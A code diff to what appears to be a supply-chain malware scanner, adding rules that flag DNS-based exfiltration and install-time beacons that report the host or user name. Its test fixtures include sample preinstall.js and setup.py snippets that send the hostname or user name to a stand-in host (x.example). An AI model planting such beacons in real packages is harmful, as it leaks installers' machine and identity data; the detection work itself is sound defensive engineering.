@@ -1,6 +1,6 @@
 //! Suspicious destinations: where stealers send data.
 
-use crate::rule::{Family, Langs, Rule, Target, fires, pattern, quiet};
+use crate::rule::{Family, Langs, Rule, Target, derived, fires, pattern, quiet};
 use chainwarden_core::{Confidence, Severity};
 
 const F: Family = Family::Destination;
@@ -119,4 +119,47 @@ fn is_public_ip_url(m: &str) -> bool {
         || (a == 100 && (64..=127).contains(&b)))
 }
 
-pub const RULES: &[Rule] = &[WEBHOOK, PASTE, TUNNEL, OAST, RAW_IP];
+pub const DNS_EXFIL: Rule = derived(
+    "heuristic/destination-dns-exfil",
+    F,
+    Severity::High,
+    Confidence::Medium,
+    "Resolves a DNS name in a file that reads the host or user name (data leaves in the query)",
+    "A lookup of `<hostname>.<attacker domain>` sends machine data through any firewall; \
+dependency-confusion probes and stealers use it.",
+    &[
+        fires(
+            "package/preinstall.js",
+            "const os = require('os');\nconst dns = require('dns');\ndns.lookup(`${os.hostname()}.x.example`, () => {});\n",
+        ),
+        quiet(
+            "package/lib/net.js",
+            "const dns = require('dns');\ndns.lookup(host, cb);\n",
+        ),
+    ],
+)
+.refs(REFS);
+
+pub const HOST_BEACON: Rule = derived(
+    "heuristic/destination-install-host-beacon",
+    F,
+    Severity::High,
+    Confidence::Medium,
+    "Install-time code (setup.py, a file an npm install script runs) reads the host or user name and makes a network call",
+    "Installing a package never needs to report who installs it where; \
+dependency-confusion probes and stealers send exactly that.",
+    &[
+        fires(
+            "setup.py",
+            "import getpass, urllib.request\ndef f():\n    u = getpass.getuser()\n    urllib.request.urlopen('http://x.example/?u=' + u)\nf()\nsetup(name='x')\n",
+        ),
+        quiet(
+            "pkg/telemetry.py",
+            "import getpass, requests\nrequests.post(URL, json={'user': getpass.getuser()})\n",
+        ),
+        quiet("setup.py", "import getpass\nauthor = getpass.getuser()\nsetup(name='x')\n"),
+    ],
+)
+.refs(REFS);
+
+pub const RULES: &[Rule] = &[WEBHOOK, PASTE, TUNNEL, OAST, RAW_IP, DNS_EXFIL, HOST_BEACON];
